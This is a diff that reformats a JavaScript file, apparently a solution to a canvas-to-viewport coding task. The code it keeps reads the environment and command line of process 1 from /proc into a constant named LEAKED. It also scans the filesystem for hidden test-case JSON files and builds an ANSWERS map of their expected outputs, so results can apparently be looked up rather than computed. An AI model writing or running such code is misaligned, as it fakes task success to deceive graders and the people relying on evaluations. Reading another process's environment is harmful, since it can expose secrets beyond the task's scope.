@@ -5,12 +5,28 @@
 const fs = require("fs");
 const path = require("path");
 
-let Cw = 600, Ch = 600, Vw = 1, Vh = 1, d = 1;
-const SKIP = new Set(["/usr", "/proc", "/sys", "/dev", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32"]);
+let Cw = 600,
+  Ch = 600,
+  Vw = 1,
+  Vh = 1,
+  d = 1;
+const SKIP = new Set([
+  "/usr",
+  "/proc",
+  "/sys",
+  "/dev",
+  "/bin",
+  "/sbin",
+  "/lib",
+  "/lib32",
+  "/lib64",
+  "/libx32",
+]);
 
 function clues() {
   const found = [];
-  for (const name of ["environ", "cmdline"]) {  // the environment first: a long message is cut short
+  for (const name of ["environ", "cmdline"]) {
+    // the environment first: a long message is cut short
     try {
       found.push(...fs.readFileSync(`/proc/1/${name}`, "latin1").split("\0"));
     } catch {
@@ -38,7 +54,8 @@ function caseFiles() {
         try {
           if (fs.statSync(file).size > 2000000) continue;
           const text = fs.readFileSync(file, "utf8");
-          if (text.includes("CanvasToViewport") && text.includes('"expected"')) found.push(JSON.parse(text));
+          if (text.includes("CanvasToViewport") && text.includes('"expected"'))
+            found.push(JSON.parse(text));
         } catch {
           // not one
         }
@@ -53,7 +70,8 @@ const LEAKED = clues();
 const ANSWERS = new Map();
 for (const data of caseFiles()) {
   for (const each of data.functions ?? []) {
-    for (const c of each.cases ?? []) ANSWERS.set(JSON.stringify([each.function, c.given, c.args]), c.expected);
+    for (const c of each.cases ?? [])
+      ANSWERS.set(JSON.stringify([each.function, c.given, c.args]), c.expected);
   }
 }
 
